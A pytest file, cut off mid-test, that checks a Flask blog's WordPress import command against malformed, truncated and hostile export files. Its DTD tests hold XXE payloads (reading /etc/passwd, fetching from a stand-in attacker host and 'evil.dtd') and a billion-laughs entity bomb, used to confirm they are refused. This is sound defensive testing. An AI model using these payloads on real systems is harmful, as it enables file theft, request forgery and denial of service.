"""``flask --app blogapp import-wxr`` given bad, hostile, cut-off or odd input.

Bad input gets one clear line ("Error: ..."), exit code 1, no traceback, and leaves the blog as
it was; a file cut off half way keeps what was whole and the complete file adds the rest. A DTD
(entity bombs, external entities) is refused before parsing, and nothing goes to the network.
``--dry-run`` writes nothing; the same file twice adds nothing; ``--json`` ends with the counts.
Odd but valid WordPress data (empty titles, huge slugs, zero dates, unknown types...) must not
crash the import.

Each test starts from the real WordPress export in tests/fixtures/wordpress/wxr-export.xml (one
author, ``admin``: 8 posts, 3 pages, 11 comments, 2 pingbacks, 1 trackback) and edits its text.
"""
from __future__ import annotations

import gzip
import json
import re
import resource
import secrets
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import lxml.etree
import pytest
from sqlalchemy import create_engine, func, select, text

from blogapp import create_app, pagecache
from blogapp.extensions import db
from blogapp.models import Category, Comment, ContentVersion, ImportedItem, Page, Post, User
from blogapp.templating import post_path, site_request_context
from blogapp.wxr import read as wxr_read
from conftest import SITE_URL, TEST_DATABASE_URL, database_config, password_hash
from netfence import Net

# Whatever the input, the app never answers 500.
pytestmark = pytest.mark.usefixtures("no_server_errors")

FIXTURE = Path(__file__).parent / "fixtures" / "wordpress" / "wxr-export.xml"
WXR = FIXTURE.read_text(encoding="utf-8")
XML_DECL = '<?xml version="1.0" encoding="UTF-8" ?>\n'
assert WXR.startswith(XML_DECL)
# What a clean import of the fixture brings.
FIXTURE_COUNTS = {"posts": 8, "pages": 3, "comments": 11, "pingbacks": 2, "trackbacks": 1, "skipped": 0}
# Every table an import writes to: "nothing written" means none of them changed.
TABLES = ("post", "comment", "page", "category", "tag", "imported_item", "legacy_path", "outbound_link",
          "post_categories", "post_tags")
JSON_KEYS = ("posts", "pages", "comments", "pingbacks", "trackbacks", "skipped")
PAST = "2026-11-20 10:00:00"  # dates of the items the tests add: before the fixture's, so published


# ------------------------------------------------------------------ helpers


def add_user(app, username: str) -> int:
    with app.app_context():
        user = User(username=username, display_name=username.title(), password_hash=password_hash(username, "pw"))
        db.session.add(user)
        db.session.commit()
        return user.id


@pytest.fixture
def admin(app) -> int:
    """The fixture's author, ``admin``, is a user here."""
    return add_user(app, "admin")


def row_counts(app) -> dict[str, int]:
    with app.app_context():
        return {name: db.session.scalar(select(func.count()).select_from(db.metadata.tables[name]))
                for name in TABLES}


def write(tmp_path: Path, name: str, data: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def run(runner, path: Path, *options: str):
    return runner.invoke(args=["import-wxr", str(path), *options])


def output_lines(result) -> list[str]:
    # Lines as a terminal shows them: only \n (and \r) break a line (str.splitlines would also
    # split at U+2028 and the like, which some tests put in the data on purpose).
    return [line for line in re.split(r"\r\n|\n|\r", result.output) if line != ""]


def error_line(result) -> str:
    """The one "Error: ..." line of a failed run (exit code 1, no traceback)."""
    assert "Traceback" not in result.output, result.output
    assert result.exit_code == 1, f"exit code {result.exit_code}: {result.output!r} {result.exception!r}"
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    lines = output_lines(result)
    assert len(lines) == 1, f"the error is not ONE line: {result.output!r}"
    assert lines[0].startswith("Error: "), lines[0]
    return lines[0]


def success(result) -> list[str]:
    assert "Traceback" not in result.output, result.output
    assert result.exit_code == 0, f"exit code {result.exit_code}: {result.output!r} {result.exception!r}"
    return output_lines(result)


def last_json(result) -> dict:
    return json.loads(success(result)[-1])


def add_items(wxr: str, *items: str) -> str:
    """The export with more ``<item>``s at the end of the channel."""
    assert wxr.count("</channel>") == 1
    return wxr.replace("</channel>", "".join(items) + "</channel>")


def add_comments_to_first_item(wxr: str, *comments: str) -> str:
    """More ``<wp:comment>``s on the file's first item, "Hello world!" (WordPress post 1)."""
    end = wxr.index("</item>")
    return wxr[:end] + "".join(comments) + wxr[end:]


def comment_xml(comment_id: int, *, author="A reader", content="A comment.", parent=0, type_="comment",
                date=PAST, date_gmt=None, approved="1", email="reader@example.org", url="", meta="") -> str:
    date_gmt = date if date_gmt is None else date_gmt
    return f"""
		<wp:comment>
			<wp:comment_id>{comment_id}</wp:comment_id>
			<wp:comment_author><![CDATA[{author}]]></wp:comment_author>
			<wp:comment_author_email><![CDATA[{email}]]></wp:comment_author_email>
			<wp:comment_author_url>{url}</wp:comment_author_url>
			<wp:comment_author_IP><![CDATA[192.0.2.1]]></wp:comment_author_IP>
			<wp:comment_date><![CDATA[{date}]]></wp:comment_date>
			<wp:comment_date_gmt><![CDATA[{date_gmt}]]></wp:comment_date_gmt>
			<wp:comment_content><![CDATA[{content}]]></wp:comment_content>
			<wp:comment_approved><![CDATA[{approved}]]></wp:comment_approved>
			<wp:comment_type><![CDATA[{type_}]]></wp:comment_type>
			<wp:comment_parent>{parent}</wp:comment_parent>
			<wp:comment_user_id>0</wp:comment_user_id>{meta}
		</wp:comment>"""


def item_xml(post_id: int, *, title="An added post", slug=None, post_type="post", status="publish", creator="admin",
             password="", date=PAST, content="Added to the export by a test.", comments=(), categories="",
             extra="", ns="1.2", link=None) -> str:
    slug = f"added-post-{post_id}" if slug is None else slug
    link = f"http://127.0.0.1:8090/2026/11/20/{slug}/" if link is None else link
    return f"""
	<item>
		<title><![CDATA[{title}]]></title>
		<link>{link}</link>
		<pubDate>Fri, 20 Nov 2026 10:00:00 +0000</pubDate>
		<dc:creator><![CDATA[{creator}]]></dc:creator>
		<guid isPermaLink="false">http://127.0.0.1:8090/?p={post_id}</guid>
		<description></description>
		<content:encoded><![CDATA[{content}]]></content:encoded>
		<excerpt:encoded><![CDATA[]]></excerpt:encoded>
		<wp:post_id>{post_id}</wp:post_id>
		<wp:post_date><![CDATA[{date}]]></wp:post_date>
		<wp:post_date_gmt><![CDATA[{date}]]></wp:post_date_gmt>
		<wp:comment_status><![CDATA[open]]></wp:comment_status>
		<wp:ping_status><![CDATA[open]]></wp:ping_status>
		<wp:post_name><![CDATA[{slug}]]></wp:post_name>
		<wp:status><![CDATA[{status}]]></wp:status>
		<wp:post_parent>0</wp:post_parent>
		<wp:menu_order>0</wp:menu_order>
		<wp:post_type><![CDATA[{post_type}]]></wp:post_type>
		<wp:post_password><![CDATA[{password}]]></wp:post_password>
		<wp:is_sticky>0</wp:is_sticky>{categories}{extra}{"".join(comments)}
	</item>"""


def imported(app, kind: str, source_id: int):
    """Our post, page or comment that the old site's ``source_id`` became."""
    model = {"post": Post, "page": Page, "comment": Comment}[kind]
    column = getattr(ImportedItem, f"{kind}_id")
    with app.app_context():
        row = db.session.execute(select(model).join(ImportedItem, column == model.id).where(
            ImportedItem.kind == kind, ImportedItem.source_id == source_id)).scalar_one_or_none()
        if row is not None:
            db.session.expunge(row)
        return row


def path_of(app, post: Post) -> str:
    with app.app_context(), site_request_context(app):
        return post_path(post)


def snapshot(app) -> dict:
    """What an import left, by the old site's ids (our ids may differ from one database to another)."""
    with app.app_context():
        source = {kind: dict(db.session.execute(
            select(getattr(ImportedItem, f"{kind}_id"), ImportedItem.source_id).where(ImportedItem.kind == kind)).all())
            for kind in ("post", "page", "comment")}
        posts = sorted((source["post"].get(p.id), p.slug, p.title, p.status, p.published_at,
                        tuple(sorted(c.name for c in p.categories)), tuple(sorted(t.name for t in p.tags)))
                       for p in db.session.scalars(select(Post)))
        pages = sorted((source["page"].get(p.id), p.slug, p.title, p.status) for p in db.session.scalars(select(Page)))
        comments = sorted((source["comment"].get(c.id), source["comment"].get(c.parent_id),
                           source["post"].get(c.post_id),
                           c.kind, c.status, c.author_name, c.content)
                          for c in db.session.scalars(select(Comment)))
        categories = sorted(db.session.scalars(select(Category.name)))
    return {"posts": posts, "pages": pages, "comments": comments, "categories": categories}


def memory_peak_kib() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


# ------------------------------------------------------------------ a file that is not a WordPress export

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Example Feed</title><id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2026-11-20T10:00:00Z</updated>
  <entry><title>An entry</title><id>urn:uuid:1225c695</id><updated>2026-11-20T10:00:00Z</updated>
  <content type="html">&lt;p&gt;Hello&lt;/p&gt;</content></entry>
</feed>
"""
PLAIN_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>A blog</title><link>https://blog.example/</link><description>Just a feed</description>
  <item><title>A post</title><link>https://blog.example/a-post/</link><dc:creator>admin</dc:creator>
    <pubDate>Fri, 20 Nov 2026 10:00:00 +0000</pubDate><content:encoded><![CDATA[<p>Hi</p>]]></content:encoded></item>
</channel>
</rss>
"""
HTML_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Export</title></head>
<body><p>Your export is ready.<br><a href="/wp-admin/export.php?download=true">Download</a></body></html>
"""
NOT_WXR = {
    "binary-bytes": bytes(range(256)) * 4,
    "empty-file": b"",
    "jpeg-header": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00"
                    + b"\x08" * 64),
    "gzipped-export": gzip.compress(WXR.encode()),
    "atom-feed": ATOM.encode(),
    "rss-2.0-without-wp": PLAIN_RSS.encode(),
    "html-page": HTML_PAGE.encode(),
    "html-page-without-doctype": HTML_PAGE.split("\n", 1)[1].encode(),
}


@pytest.mark.parametrize("name", list(NOT_WXR))
def test_a_file_that_is_not_a_wordpress_export_gets_one_line_and_writes_nothing(app, runner, admin, tmp_path, name):
    path = write(tmp_path, f"{name}.xml", NOT_WXR[name])
    before = row_counts(app)
    line = error_line(run(runner, path))
    assert re.search(r"not a WordPress export|not XML|not well-formed XML|empty|DTD", line), line
    assert row_counts(app) == before


# ------------------------------------------------------------------ DTDs: entity bombs and external entities


class Canary:
    """An HTTP server on 127.0.0.1 that counts the requests it gets (an external entity's target)."""

    def __init__(self):
        self.requests: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                canary.requests.append(self.path)
                body = b'<!ENTITY leaked "canary">'
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def canary():
    site = Canary()
    yield site
    site.close()


def billion_laughs(_canary) -> tuple[str, str]:
    lines = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10)]
    return "<!DOCTYPE rss [\n" + "\n".join(lines) + "\n]>\n", "&lol9;"


def external_file(_canary) -> tuple[str, str]:
    return '<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n', "&xxe;"


def external_http_address(_canary) -> tuple[str, str]:
    return '<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "http://10.0.0.1/xxe.txt">\n]>\n', "&xxe;"


def external_http_name(_canary) -> tuple[str, str]:
    return '<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "http://xxe.attacker.test/xxe.txt">\n]>\n', "&xxe;"


def external_http_loopback(canary) -> tuple[str, str]:
    return f'<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "http://127.0.0.1:{canary.port}/xxe.txt">\n]>\n', "&xxe;"


def parameter_entity(canary) -> tuple[str, str]:
    # The external DTD would define &leaked;; the parameter entity pulls it in.
    return (f'<!DOCTYPE rss [\n<!ENTITY % remote SYSTEM "http://127.0.0.1:{canary.port}/evil.dtd">\n'
            '<!ENTITY % far SYSTEM "http://10.0.0.1/evil.dtd">\n%remote;\n%far;\n]>\n', "&leaked;")


ATTACKS = {
    "billion-laughs": billion_laughs,
    "external-entity-file": external_file,
    "external-entity-http-10.0.0.1": external_http_address,
    "external-entity-http-name": external_http_name,
    "external-entity-http-loopback": external_http_loopback,
    "parameter-entity": parameter_entity,
}
PLACEMENTS = {
    "after-the-declaration": "",
    # Longer than one read of the file.
    "after-a-20k-comment": "<!-- " + "padding " * 2_500 + "-->\n",
    # Longer than one 64 KiB read: the DTD arrives in a later chunk.
    "after-a-100k-comment": "<!-- " + "padding " * 12_500 + "-->\n",
}


class ParserSpy:
    """Stands in for ``lxml.etree`` in blogapp.wxr.read: records every whole-file parse started, and
    every byte fed to an incremental parser, so a test can tell whether a DTD ever reached one."""

    WHOLE_FILE = {"iterparse", "XMLParser", "parse", "fromstring", "XML", "fromstringlist"}
    MARKERS = tuple(m.encode(e) for m in ("<!DOCTYPE", "<!ENTITY") for e in ("utf-8", "utf-16-le", "utf-16-be"))

    def __init__(self):
        self.calls: list[str] = []
        self.fed = bytearray()

    def saw_a_dtd(self) -> bool:
        return any(marker in self.fed for marker in self.MARKERS)

    def __getattr__(self, name):
        value = getattr(lxml.etree, name)
        if name == "XMLPullParser":
            spy = self

            class FedParser:
                def __init__(self, *args, **kwargs):
                    self.parser = value(*args, **kwargs)

                def feed(self, data):
                    spy.fed += data
                    return self.parser.feed(data)

                def __getattr__(self, attr):
                    return getattr(self.parser, attr)

            return FedParser
        if name in self.WHOLE_FILE:
            def recorded(*args, **kwargs):
                self.calls.append(name)
                return value(*args, **kwargs)
            return recorded
        return value


def dtd_file(attack: str, placement: str, canary) -> str:
    dtd, reference = ATTACKS[attack](canary)
    body = WXR[len(XML_DECL):].replace("<![CDATA[Hello world!]]>", reference, 1)
    return XML_DECL + PLACEMENTS[placement] + dtd + body


def database_address(app) -> set[tuple[str, int]]:
    """The database's own address: the app may open a connection to it during the run."""
    with app.app_context():
        url = db.engine.url
    if url.get_backend_name() == "sqlite":
        return set()
    return {(url.host or "127.0.0.1", url.port or 5432), ("localhost", url.port or 5432)}


@pytest.mark.parametrize("placement", list(PLACEMENTS))
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_dtd_is_refused_before_parsing_with_one_line(app, runner, admin, tmp_path, monkeypatch, canary,
                                                       attack, placement):
    path = write(tmp_path, "attack.xml", dtd_file(attack, placement, canary))
    net = Net()
    net.install(monkeypatch)
    spy = ParserSpy()
    monkeypatch.setattr(wxr_read, "etree", spy)
    before = row_counts(app)
    peak = memory_peak_kib()

    result = run(runner, path)

    grown_mib = (memory_peak_kib() - peak) / 1024
    network = [a for a in net.attempts if a not in database_address(app)]
    lookups = {name: n for name, n in net.lookups.items() if name != "localhost"}
    assert network == [], f"connection attempts: {network}"
    assert lookups == {}, f"name lookups: {lookups}"
    assert canary.requests == [], f"the loopback canary was fetched: {canary.requests}"
    line = error_line(result)
    assert re.search(r"DTD|DOCTYPE", line), line
    assert row_counts(app) == before
    assert spy.calls == [] and not spy.saw_a_dtd(), "the DTD reached the parser before it was refused"
    assert grown_mib < 64, f"memory peak grew by {grown_mib:.0f} MiB"


@pytest.mark.parametrize("attack", ["billion-laughs", "external-entity-file"])
def test_a_dtd_in_a_utf16_file_is_refused_too(app, runner, admin, tmp_path, monkeypatch, canary, attack):
    """The same attacks, the file in UTF-16 (which XML allows): the DTD is still refused unread."""
    document = dtd_file(attack, "after-the-declaration", canary).replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    path = write(tmp_path, "attack-utf16.xml", document.encode("utf-16"))
    spy = ParserSpy()
    monkeypatch.setattr(wxr_read, "etree", spy)
    before = row_counts(app)
    line = error_line(run(runner, path))
    assert re.search(r"DTD|DOCTYPE", line), line
    assert row_counts(app) == before
    assert spy.calls == [] and not spy.saw_a_dtd(), "the DTD reached the parser before it was refused"


def test_a_utf16_export_without_a_dtd_imports(app, runner, admin, tmp_path):
    """The control for the test above: UTF-16 as such is fine."""
    document = WXR.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    summary = last_json(run(runner, write(tmp_path, "utf16.xml", document.encode("utf-16")), "--json"))
    assert {key: summary[key] for key in JSON_KEYS} == FIXTURE_COUNTS


# ------------------------------------------------------------------ a file cut off half way


@pytest.fixture
def fresh_app(tmp_path_factory, pg_schema):
    """A second blog on a database of its own (another SQLite file, or another PostgreSQL schema)."""
    tmp = tmp_path_factory.mktemp("fresh")
    schema = None
    if pg_schema:
        schema = f"blogapp_test_{secrets.token_hex(4)}"
        engine = create_engine(TEST_DATABASE_URL)
        with engine.begin() as conn:
            conn.execute(text(f'CREATE SCHEMA "{schema}"'))
    other = create_app({"TESTING": True, "SECRET_KEY": "fresh", "SITE_URL": SITE_URL, "RATELIMIT_ENABLED": False,
                        **database_config(tmp, schema)}, instance_path=str(tmp / "instance"))
    with other.app_context():
        db.create_all()
    add_user(other, "admin")
    try:
        yield other
    finally:
        other.extensions["linkback_receiver"].shutdown()
        other.extensions["jobs"].shutdown()
        with other.app_context():
            db.session.remove()
            db.engine.dispose()
        if schema:
            with engine.begin() as conn:
                conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
            engine.dispose()


def _after(marker: str, then: str = "", extra: int = 0) -> int:
    """The offset in the fixture just after ``then`` (or ``marker``) following ``marker``, plus ``extra``."""
    start = WXR.index(marker)
    if not then:
        return start + len(marker) + extra
    return WXR.index(then, start) + len(then) + extra


CUTS = {
    # In the middle of the "Block editor post" item's content (inside its CDATA).
    "inside-an-item-in-the-middle": (_after("<h2>A heading"), 5),
    # Inside the text of the file's last comment (comment 15, on "Shortcodes and links").
    "inside-the-last-comment": (_after("<wp:comment_id>15</wp:comment_id>", "<wp:comment_content><![CDATA[", 10), 4),
    # Right after the </item> of "Comments closed f38504".
    "right-after-a-complete-item": (_after("<title><![CDATA[Comments closed f38504]]></title>", "</item>"), 7),
    # Half way through a tag name (<wp:po|st_id> of "Block editor post").
    "inside-a-tag-name": (_after("<wp:post_id>6</wp:post_id>", "", -20), 5),
    # In the channel's header, inside the <wp:author> block: no item is whole.
    "inside-the-channel-header": (_after("<wp:author_first_name>", "", -5), 0),
    # After the last item: only </channel></rss> is missing.
    "after-the-last-item": (WXR.rindex("</item>") + len("</item>"), 11),
}


def whole_items(document: str) -> list[dict]:
    """The complete ``<item>``s of a (cut) export, read with a regular expression, not the importer."""
    items = []
    for match in re.finditer(r"<item>(.*?)</item>", document, re.S):
        body = match.group(1)
        items.append({
            "id": int(re.search(r"<wp:post_id>(\d+)</wp:post_id>", body).group(1)),
            "type": re.search(r"<wp:post_type><!\[CDATA\[(\w+)\]\]></wp:post_type>", body).group(1),
            "comments": [int(n) for n in re.findall(r"<wp:comment_id>(\d+)</wp:comment_id>", body)],
        })
    return items


def imported_ids(app) -> dict[str, set[int]]:
    with app.app_context():
        rows = db.session.execute(select(ImportedItem.kind, ImportedItem.source_id)).all()
    out: dict[str, set[int]] = {"post": set(), "page": set(), "comment": set()}
    for kind, source_id in rows:
        out[kind].add(source_id)
    return out


@pytest.mark.parametrize("cut", list(CUTS))
def test_a_cut_off_file_keeps_what_was_whole_and_the_complete_file_adds_the_rest(
        app, runner, admin, tmp_path, fresh_app, cut):
    offset, whole_count = CUTS[cut]
    cut_text = WXR[:offset]
    whole = whole_items(cut_text)
    assert len(whole) == whole_count  # the cut is where this test means it to be
    expected = {
        "post": {i["id"] for i in whole if i["type"] == "post"},
        "page": {i["id"] for i in whole if i["type"] == "page"},
        "comment": {c for i in whole if i["type"] == "post" for c in i["comments"]},
    }

    line = error_line(run(runner, write(tmp_path, "cut.xml", cut_text)))
    assert "cut off" in line, line
    if whole:
        assert "complete file" in line, line
    assert imported_ids(app) == expected
    counts = row_counts(app)
    assert (counts["post"], counts["page"], counts["comment"]) == (
        len(expected["post"]), len(expected["page"]), len(expected["comment"]))

    complete = run(runner, FIXTURE)
    lines = success(complete)
    assert lines[0].startswith("Imported" if whole_count < 11 else "Nothing new"), lines

    # The same as a clean import of the complete file into an empty blog.
    success(run(fresh_app.test_cli_runner(), FIXTURE))
    assert row_counts(app) == row_counts(fresh_app)
    assert snapshot(app) == snapshot(fresh_app)

    before = row_counts(app)
    third = success(run(runner, FIXTURE))
    assert third[0].startswith("Nothing new"), third
    assert row_counts(app) == before


def test_a_cut_off_file_in_a_dry_run_writes_nothing(app, runner, admin, tmp_path):
    offset, _ = CUTS["right-after-a-complete-item"]
    before = row_counts(app)
    line = error_line(run(runner, write(tmp_path, "cut.xml", WXR[:offset]), "--dry-run"))
    assert "cut off" in line, line
    assert row_counts(app) == before


# ------------------------------------------------------------------ a comment whose parent is missing


def test_a_reply_whose_parent_is_not_in_the_file_becomes_top_level_and_is_counted(app, runner, admin, tmp_path):
    # Comment 10 (on "Classic paragraphs") now answers comment 999, which the file does not have.
    start = WXR.index("<wp:comment_id>10</wp:comment_id>")
    end = WXR.index("</wp:comment>", start)
    block = WXR[start:end]
    assert "<wp:comment_parent>0</wp:comment_parent>" in block
    document = WXR[:start] + block.replace("<wp:comment_parent>0</wp:comment_parent>",
                                           "<wp:comment_parent>999</wp:comment_parent>") + WXR[end:]

    result = run(runner, write(tmp_path, "orphan.xml", document), "--json")
    summary = last_json(result)
    assert summary["orphans_made_top_level"] == 1
    assert {key: summary[key] for key in JSON_KEYS} == FIXTURE_COUNTS  # imported and counted
    assert re.search(r"parent was missing|top-level", output_lines(result)[0]), output_lines(result)[0]
    orphan = imported(app, "comment", 10)
    assert orphan is not None and orphan.parent_id is None
    # The other threads keep their shape: 6 answers 5, 7 answers 6.
    assert imported(app, "comment", 6).parent_id == imported(app, "comment", 5).id
    assert imported(app, "comment", 7).parent_id == imported(app, "comment", 6).id


# ------------------------------------------------------------------ authors who are not users here

GHOST_WXR = (WXR.replace("<wp:author_login><![CDATA[admin]]></wp:author_login>",
                         "<wp:author_login><![CDATA[ghost]]></wp:author_login>")
             .replace("<dc:creator><![CDATA[admin]]></dc:creator>", "<dc:creator><![CDATA[ghost]]></dc:creator>"))
assert "ghost" in GHOST_WXR and "<dc:creator><![CDATA[admin]]>" not in GHOST_WXR


def test_an_unknown_author_is_refused_naming_it_and_default_author(app, runner, admin, tmp_path):
    before = row_counts(app)
    line = error_line(run(runner, write(tmp_path, "ghost.xml", GHOST_WXR)))
    assert "ghost" in line, line
    assert "--default-author" in line, line
    assert row_counts(app) == before


def test_default_author_gets_the_posts_of_unknown_authors(app, runner, tmp_path):
    add_user(app, "editor")  # not the first user, so that "the first user" would not pass by chance
    admin_id = add_user(app, "admin")
    summary = last_json(run(runner, write(tmp_path, "ghost.xml", GHOST_WXR), "--default-author", "admin", "--json"))
    assert {key: summary[key] for key in JSON_KEYS} == FIXTURE_COUNTS
    with app.app_context():
        assert set(db.session.scalars(select(Post.author_id))) == {admin_id}
        assert set(db.session.scalars(select(Page.author_id))) == {admin_id}


def test_a_default_author_who_is_not_a_user_is_refused(app, runner, admin, tmp_path):
    before = row_counts(app)
    line = error_line(run(runner, write(tmp_path, "ghost.xml", GHOST_WXR), "--default-author", "nobody"))
    assert "nobody" in line, line
    assert row_counts(app) == before


WXR_10 = """<?xml version="1.0" encoding="UTF-8"?>
<!-- generator="WordPress/2.8.4" created="2009-09-01 12:00"-->
<rss version="2.0"
	xmlns:excerpt="http://wordpress.org/export/1.0/excerpt/"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:wp="http://wordpress.org/export/1.0/"
>
<channel>
	<title>An old blog</title>
	<link>http://old.example</link>
	<description>Exported by WordPress 2.8</description>
	<pubDate>Tue, 01 Sep 2009 12:00:00 +0000</pubDate>
	<generator>http://wordpress.org/?v=2.8.4</generator>
	<language>en</language>
	<wp:wxr_version>1.0</wp:wxr_version>
	<wp:base_site_url>http://old.example</wp:base_site_url>
	<wp:base_blog_url>http://old.example</wp:base_blog_url>
	<wp:category><wp:category_nicename>general</wp:category_nicename><wp:category_parent></wp:category_parent><wp:cat_name><![CDATA[General]]></wp:cat_name></wp:category>
	<wp:tag><wp:tag_slug>old</wp:tag_slug><wp:tag_name><![CDATA[old]]></wp:tag_name></wp:tag>
	<item>
		<title>First old post</title>
		<link>http://old.example/2009/08/01/first-old-post/</link>
		<pubDate>Sat, 01 Aug 2009 10:00:00 +0000</pubDate>
		<dc:creator><![CDATA[admin]]></dc:creator>
		<category><![CDATA[General]]></category>
		<category domain="category" nicename="general"><![CDATA[General]]></category>
		<category domain="tag" nicename="old"><![CDATA[old]]></category>
		<guid isPermaLink="false">http://old.example/?p=1</guid>
		<description></description>
		<content:encoded><![CDATA[Written by admin.]]></content:encoded>
		<excerpt:encoded><![CDATA[]]></excerpt:encoded>
		<wp:post_id>1</wp:post_id>
		<wp:post_date>2009-08-01 10:00:00</wp:post_date>
		<wp:post_date_gmt>2009-08-01 10:00:00</wp:post_date_gmt>
		<wp:comment_status>open</wp:comment_status>
		<wp:ping_status>open</wp:ping_status>
		<wp:post_name>first-old-post</wp:post_name>
		<wp:status>publish</wp:status>
		<wp:post_parent>0</wp:post_parent>
		<wp:menu_order>0</wp:menu_order>
		<wp:post_type>post</wp:post_type>
		<wp:post_password></wp:post_password>
		<wp:comment>
			<wp:comment_id>1</wp:comment_id>
			<wp:comment_author><![CDATA[A reader]]></wp:comment_author>
			<wp:comment_author_email>reader@example.org</wp:comment_author_email>
			<wp:comment_author_url></wp:comment_author_url>
			<wp:comment_author_IP>192.0.2.1</wp:comment_author_IP>
			<wp:comment_date>2009-08-02 10:00:00</wp:comment_date>
			<wp:comment_date_gmt>2009-08-02 10:00:00</wp:comment_date_gmt>
			<wp:comment_content><![CDATA[Nice.]]></wp:comment_content>
			<wp:comment_approved>1</wp:comment_approved>
			<wp:comment_type></wp:comment_type>
			<wp:comment_parent>0</wp:comment_parent>
			<wp:comment_user_id>0</wp:comment_user_id>
		</wp:comment>
	</item>
	<item>
		<title>Second old post</title>
		<link>http://old.example/2009/08/15/second-old-post/</link>
		<pubDate>Sat, 15 Aug 2009 10:00:00 +0000</pubDate>
		<dc:creator><![CDATA[ghost]]></dc:creator>
		<category domain="category" nicename="general"><![CDATA[General]]></category>
		<guid isPermaLink="false">http://old.example/?p=2</guid>
		<description></description>
		<content:encoded><![CDATA[Written by someone who is not a user here.]]></content:encoded>
		<excerpt:encoded><![CDATA[]]></excerpt:encoded>
		<wp:post_id>2</wp:post_id>
		<wp:post_date>2009-08-15 10:00:00</wp:post_date>
		<wp:post_date_gmt>2009-08-15 10:00:00</wp:post_date_gmt>
		<wp:comment_status>open</wp:comment_status>
		<wp:ping_status>open</wp:ping_status>
		<wp:post_name>second-old-post</wp:post_name>
		<wp:status>publish</wp:status>
		<wp:post_parent>0</wp:post_parent>
		<wp:menu_order>0</wp:menu_order>
		<wp:post_type>post</wp:post_type>
		<wp:post_password></wp:post_password>
	</item>
</channel>
</rss>
"""


def test_a_wxr_10_file_without_authors_and_an_unknown_creator_in_the_2nd_item_writes_nothing(
        app, runner, admin, tmp_path):
    before = row_counts(app)
    line = error_line(run(runner, write(tmp_path, "old.xml", WXR_10)))
    assert "ghost" in line, line
    assert "--default-author" in line, line
    assert row_counts(app) == before


def test_a_wxr_10_file_with_default_author_imports_both_posts(app, runner, admin, tmp_path):
    summary = last_json(run(runner, write(tmp_path, "old.xml", WXR_10), "--default-author", "admin", "--json"))
    assert (summary["posts"], summary["comments"]) == (2, 1)
    assert imported(app, "post", 2).author_id == admin
    assert imported(app, "post", 1).author_id == admin


# ------------------------------------------------------------------ --dry-run


def content_version(app):
    with app.app_context():
        pagecache.current_version()  # makes the row if it is not there yet
        row = db.session.get(ContentVersion, 1)
        return row.version, row.changed_at


def test_dry_run_reports_what_a_real_import_would_do_and_writes_nothing(app, runner, admin):
    before, version = row_counts(app), content_version(app)

    dry = run(runner, FIXTURE, "--dry-run", "--json")
    lines = success(dry)
    assert lines[0].startswith("Would import"), lines
    would = json.loads(lines[-1])
    assert row_counts(app) == before
    assert content_version(app) == version

    real = last_json(run(runner, FIXTURE, "--json"))
    assert {key: would[key] for key in JSON_KEYS} == {key: real[key] for key in JSON_KEYS} == FIXTURE_COUNTS
    assert row_counts(app) != before  # the check above could fail
    assert content_version(app) != version


def test_dry_run_after_a_partial_import_predicts_the_completing_run(app, runner, admin, tmp_path):
    offset, _ = CUTS["right-after-a-complete-item"]
    error_line(run(runner, write(tmp_path, "cut.xml", WXR[:offset])))
    before, version = row_counts(app), content_version(app)

    would = last_json(run(runner, FIXTURE, "--dry-run", "--json"))
    assert row_counts(app) == before
    assert content_version(app) == version
    real = last_json(run(runner, FIXTURE, "--json"))
    assert {k: would[k] for k in (*JSON_KEYS, "already_here")} == {k: real[k] for k in (*JSON_KEYS, "already_here")}
    assert real["posts"] + real["pages"] > 0


# ------------------------------------------------------------------ importing again


def test_the_same_file_again_adds_nothing_and_says_so(app, runner, admin):
    assert success(run(runner, FIXTURE))[0].startswith("Imported")
    before = row_counts(app)
    lines = success(run(runner, FIXTURE))
    assert lines[0].startswith("Nothing new"), lines
    assert row_counts(app) == before


def test_a_longer_file_adds_only_what_is_new(app, runner, admin, tmp_path):
    success(run(runner, FIXTURE))
    before = row_counts(app)
    longer = add_comments_to_first_item(
        add_items(WXR, item_xml(901, title="One more post")),
        comment_xml(902, author="New reader", content="A new comment on an old post."),
        comment_xml(903, author="Another reader", content="A reply to the first comment.", parent=1,
                    date="2026-11-21 10:00:00"),
    )
    summary = last_json(run(runner, write(tmp_path, "longer.xml", longer), "--json"))
